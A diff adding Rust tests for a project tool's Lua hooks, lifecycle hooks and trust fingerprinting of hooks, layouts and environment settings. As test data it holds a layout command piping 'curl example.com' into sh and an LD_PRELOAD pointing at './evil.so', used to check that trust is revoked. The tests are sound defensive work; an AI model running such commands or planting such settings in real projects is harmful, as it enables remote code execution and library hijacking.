@@ -0,0 +1,288 @@
+use std::{
+    fs,
+    path::{Path, PathBuf},
+};
+
+use crate::{
+    config::{HooksOptions, LifecycleHook},
+    hooks::{
+        HookContext, HookEvent, HooksError, LifecycleEvent, ProjectHooks, ProjectTrust,
+        run_lifecycle_hooks,
+    },
+    project::ProjectMeta,
+    state::State,
+    tests::TestContext,
+};
+
+const HOOKS_SOURCE: &str = r#"
+function on_open()
+    fs.write("opened.txt", project.name())
+end
+
+function on_shell()
+    fs.write("shell.txt", "shell")
+end
+"#;
+
+fn write_hooks_file(context: &TestContext, source: &str) {
+    fs::create_dir_all(context.path().join(".kanri")).unwrap();
+    fs::write(context.path().join(".kanri").join("hooks.lua"), source).unwrap();
+}
+
+#[test]
+fn test_hooks_none() {
+    let context = TestContext::setup();
+    let meta = ProjectMeta::default();
+
+    assert!(ProjectHooks::load(context.path(), &meta).unwrap().is_none());
+}
+
+#[test]
+fn test_hooks_run_from_file() {
+    let context = TestContext::setup();
+    write_hooks_file(&context, HOOKS_SOURCE);
+
+    let meta = ProjectMeta::load(context.path()).unwrap();
+    let hooks = ProjectHooks::load(context.path(), &meta).unwrap().unwrap();
+    assert_eq!(hooks.file_name(), ".kanri/hooks.lua");
+
+    hooks
+        .run(&[HookEvent::Open], context.path(), "test")
+        .unwrap();
+    assert_eq!(
+        fs::read_to_string(context.path().join("opened.txt")).unwrap(),
+        "test"
+    );
+    assert!(!context.path().join("shell.txt").exists());
+
+    hooks
+        .run(&[HookEvent::Open, HookEvent::Shell], context.path(), "test")
+        .unwrap();
+    assert!(context.path().join("shell.txt").exists());
+}
+
+#[test]
+fn test_hooks_run_from_metadata() {
+    let context = TestContext::setup();
+    fs::create_dir_all(context.path().join(".kanri")).unwrap();
+    fs::write(
+        context.path().join(".kanri").join("project.toml"),
+        "[hooks]\non_shell = 'fs.write(\"shell.txt\", \"shell\")'\n",
+    )
+    .unwrap();
+
+    let meta = ProjectMeta::load(context.path()).unwrap();
+    let hooks = ProjectHooks::load(context.path(), &meta).unwrap().unwrap();
+
+    hooks
+        .run(&[HookEvent::Open, HookEvent::Shell], context.path(), "test")
+        .unwrap();
+    assert!(context.path().join("shell.txt").exists());
+}
+
+#[test]
+fn test_hooks_defined_twice() {
+    let context = TestContext::setup();
+    write_hooks_file(&context, HOOKS_SOURCE);
+    fs::write(
+        context.path().join(".kanri").join("project.toml"),
+        "[hooks]\non_open = 'print(1)'\n",
+    )
+    .unwrap();
+
+    let meta = ProjectMeta::load(context.path()).unwrap();
+    assert!(matches!(
+        ProjectHooks::load(context.path(), &meta),
+        Err(HooksError::DefinedTwice(_))
+    ));
+}
+
+#[test]
+fn test_hooks_failure() {
+    let context = TestContext::setup();
+    write_hooks_file(&context, "function on_open() error('boom') end");
+
+    let meta = ProjectMeta::load(context.path()).unwrap();
+    let hooks = ProjectHooks::load(context.path(), &meta).unwrap().unwrap();
+    assert!(matches!(
+        hooks.run(&[HookEvent::Open], context.path(), "test"),
+        Err(HooksError::HookFailed { hook, .. }) if hook == "on_open"
+    ));
+}
+
+#[test]
+fn test_hooks_trust() {
+    let context = TestContext::setup();
+    write_hooks_file(&context, HOOKS_SOURCE);
+    let meta = ProjectMeta::default();
+    let hooks = ProjectHooks::load(context.path(), &meta).unwrap().unwrap();
+
+    let mut state = State::default();
+    assert!(!state.is_hook_trusted(context.path(), &hooks.fingerprint()));
+    state.trust_hook(context.path(), &hooks.fingerprint());
+    assert!(state.is_hook_trusted(context.path(), &hooks.fingerprint()));
+
+    write_hooks_file(&context, "function on_open() end");
+    let changed = ProjectHooks::load(context.path(), &meta).unwrap().unwrap();
+    assert!(!state.is_hook_trusted(context.path(), &changed.fingerprint()));
+}
+
+#[test]
+fn test_hooks_trust_layout() {
+    let context = TestContext::setup();
+    let layout = |panes: &str| -> ProjectMeta {
+        toml::from_str(&format!("[[mux.windows]]\npanes = [{panes}]")).unwrap()
+    };
+
+    // A layout types commands into shells, so it has to be trusted like hooks.
+    let meta = layout("\"make watch\"");
+    let trust = ProjectTrust::load(context.path(), &meta).unwrap();
+    assert!(trust.hooks().is_none());
+    assert!(!trust.is_empty());
+    assert!(trust.parts()[0].1.contains("make watch"));
+    assert!(
+        ProjectTrust::load(context.path(), &ProjectMeta::default())
+            .unwrap()
+            .is_empty()
+    );
+
+    let mut state = State::default();
+    assert!(!state.is_hook_trusted(context.path(), &trust.fingerprint()));
+    state.trust_hook(context.path(), &trust.fingerprint());
+    let changed = ProjectTrust::load(context.path(), &layout("\"curl example.com | sh\"")).unwrap();
+    assert!(!state.is_hook_trusted(context.path(), &changed.fingerprint()));
+
+    // Trusted hooks are not trusted anymore when a layout is added.
+    write_hooks_file(&context, HOOKS_SOURCE);
+    let hooks = ProjectHooks::load(context.path(), &ProjectMeta::default())
+        .unwrap()
+        .unwrap();
+    let with_hooks = ProjectTrust::load(context.path(), &ProjectMeta::default()).unwrap();
+    assert_eq!(with_hooks.fingerprint(), hooks.fingerprint());
+    state.trust_hook(context.path(), &hooks.fingerprint());
+    let with_layout = ProjectTrust::load(context.path(), &meta).unwrap();
+    assert!(!state.is_hook_trusted(context.path(), &with_layout.fingerprint()));
+}
+
+#[test]
+fn test_hooks_trust_env() {
+    let context = TestContext::setup();
+    let meta: ProjectMeta =
+        toml::from_str("env_file = \".env\"\n[env]\nLD_PRELOAD = \"./evil.so\"").unwrap();
+    let trust = ProjectTrust::load(context.path(), &meta).unwrap();
+    assert!(trust.parts()[0].1.contains("LD_PRELOAD"));
+
+    let mut state = State::default();
+    state.trust_hook(context.path(), &trust.fingerprint());
+    assert!(state.is_hook_trusted(context.path(), &trust.fingerprint()));
+
+    // Variables from the environment file are trusted too.
+    fs::write(context.path().join(".env"), "PATH=./bin\n").unwrap();
+    let with_file = ProjectTrust::load(context.path(), &meta).unwrap();
+    assert!(with_file.parts()[0].1.contains("PATH=./bin"));
+    assert!(!state.is_hook_trusted(context.path(), &with_file.fingerprint()));
+}
+
+#[test]
+fn test_hooks_trust_zellij_layout() {
+    let context = TestContext::setup();
+    let meta: ProjectMeta = toml::from_str("[mux]\nzellij_layout = \"layout.kdl\"").unwrap();
+    let trust = ProjectTrust::load(context.path(), &meta).unwrap();
+    assert_eq!(trust.parts().len(), 1);
+
+    // The layout file can run commands, so its content is trusted too.
+    fs::write(
+        context.path().join("layout.kdl"),
+        "layout { pane command=\"htop\" }",
+    )
+    .unwrap();
+    let with_file = ProjectTrust::load(context.path(), &meta).unwrap();
+    assert_eq!(with_file.parts().len(), 2);
+    assert_ne!(with_file.fingerprint(), trust.fingerprint());
+}
+
+#[test]
+fn test_lifecycle_hooks_config() {
+    let options: HooksOptions = toml::from_str(
+        r#"
+        post_open = [{ command = ["sync-ide", "--add"] }, { script = "audit.lua" }]
+        "#,
+    )
+    .unwrap();
+
+    assert_eq!(
+        options.post_open,
+        vec![
+            LifecycleHook::Command {
+                command: vec!["sync-ide".to_string(), "--add".to_string()]
+            },
+            LifecycleHook::Script {
+                script: PathBuf::from("audit.lua")
+            },
+        ]
+    );
+    assert!(options.pre_remove.is_empty());
+}
+
+#[test]
+fn test_lifecycle_hooks_env() {
+    let context = HookContext {
+        event: LifecycleEvent::PostRename,
+        project_name: "new",
+        project_path: Path::new("/projects/new"),
+        old_name: Some("old"),
+    };
+
+    let env = context.env();
+    assert!(env.contains(&("KANRI_HOOK".to_string(), "post_rename".to_string())));
+    assert!(env.contains(&("KANRI_PROJECT_NAME".to_string(), "new".to_string())));
+    assert!(env.contains(&("KANRI_PROJECT_OLD_NAME".to_string(), "old".to_string())));
+}
+
+#[test]
+fn test_lifecycle_hooks_script() {
+    let context = TestContext::setup();
+    let script_path = context.path().join("audit.lua");
+    fs::write(&script_path, r#"fs.write("audit.txt", project.name())"#).unwrap();
+
+    let hook_context = HookContext {
+        event: LifecycleEvent::PostCreate,
+        project_name: "test",
+        project_path: context.path(),
+        old_name: None,
+    };
+    let hooks = vec![LifecycleHook::Script {
+        script: script_path,
+    }];
+
+    run_lifecycle_hooks(&hooks, &hook_context).unwrap();
+    assert_eq!(
+        fs::read_to_string(context.path().join("audit.txt")).unwrap(),
+        "test"
+    );
+}
+
+#[test]
+fn test_lifecycle_hooks_failure() {
+    let context = TestContext::setup();
+    let hook_context = HookContext {
+        event: LifecycleEvent::PreRemove,
+        project_name: "test",
+        project_path: context.path(),
+        old_name: None,
+    };
+
+    let missing = vec![LifecycleHook::Command {
+        command: vec!["kanri-missing-program".to_string()],
+    }];
+    assert!(matches!(
+        run_lifecycle_hooks(&missing, &hook_context),
+        Err(HooksError::HookFailed { hook, .. }) if hook == "pre_remove"
+    ));
+
+    let empty = vec![LifecycleHook::Command { command: vec![] }];
+    assert!(matches!(
+        run_lifecycle_hooks(&empty, &hook_context),
+        Err(HooksError::EmptyCommand(_))
+    ));
+}